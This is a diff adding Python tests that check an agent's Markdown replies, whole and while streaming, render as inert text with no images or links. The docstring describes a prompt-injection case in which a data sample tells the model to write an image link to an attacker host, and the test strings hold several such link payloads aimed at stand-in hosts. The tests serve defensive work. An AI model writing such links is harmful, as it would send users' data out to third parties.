@@ -68,3 +68,65 @@ def test_an_error_naming_what_came_from_the_data_renders_as_written(monkeypatch)
     reason = f"hostile.jsonl was not ingested: line 1: no known shape (keys: {HOSTILE!r})\n\nFix the file and upload it again."
     asyncio.run(Out().error(reason))
     assert_inert(shown[0], reason)
+
+
+def test_the_agents_reply_formats_but_fetches_and_links_nothing():
+    """A sample can tell the model to write `![](https://attacker/?q=…)`: the reply keeps its Markdown
+    (emphasis, lists, code) but no image, link or autolink forms, however the model writes it."""
+    from goalcover.ui.render import reply_markdown, stream_markdown
+
+    tricks = [
+        HOSTILE,
+        "escaped \\[x](https://a.example) and \\\\![y](https://b.example)",
+        "a fence mid-line ```\n![z](https://c.example/p.png)",
+        "``one span`` then ![w](https://d.example) `unclosed",
+        "~~~\ncode [k](https://e.example)\n~~~\n![after](https://f.example)",
+    ]
+    for trick in tricks:
+        assert_inert(reply_markdown(trick))
+        streamed = ""
+        for i in range(0, len(trick), 3):  # as a model streams it: pieces that split URLs and brackets
+            streamed += stream_markdown(trick[:i], trick[i:i + 3])
+        assert streamed == stream_markdown("", trick)
+        assert_inert(streamed)
+    shown = MD.render(reply_markdown("**S3 is weak**: 12 of 40 samples.\n\n- one\n- two\n\n```python\nwhere = {'x': a[0] < 2}\n```\n\nuse `score_S3<=2`"))
+    assert "<strong>S3 is weak</strong>" in shown and "<li>one</li>" in shown
+    assert "where = {'x': a[0] &lt; 2}" in shown and "<code>score_S3&lt;=2</code>" in shown
+
+
+def test_the_reply_streamed_in_the_app_is_inert_while_it_streams_and_when_it_ends(monkeypatch):
+    import asyncio
+    from types import SimpleNamespace
+
+    import chainlit as cl
+
+    from goalcover.agent.session import Reply, Text
+    from goalcover.ui.turn import TurnView
+
+    seen: list[str] = []
+
+    class Recorded:
+        def __init__(self, content: str = "", **kwargs) -> None:
+            self.content = content
+
+        async def stream_token(self, token: str) -> None:
+            self.content += token
+            seen.append(self.content)  # what the browser renders at this moment
+
+        async def send(self) -> None:
+            seen.append(self.content)
+
+    monkeypatch.setattr(cl, "Message", Recorded)
+    view = TurnView(SimpleNamespace(out=None))
+    text = "S3 is weak. " + HOSTILE
+
+    async def turn() -> None:
+        for i in range(0, len(text), 5):
+            await view.show(Text(text[i:i + 5]))
+        await view.show(Reply(text))
+        await view.show(Reply("![again](https://tracker.example/q.png)"))
+
+    asyncio.run(turn())
+    assert len(seen) > 20
+    for content in seen:
+        assert_inert(content)
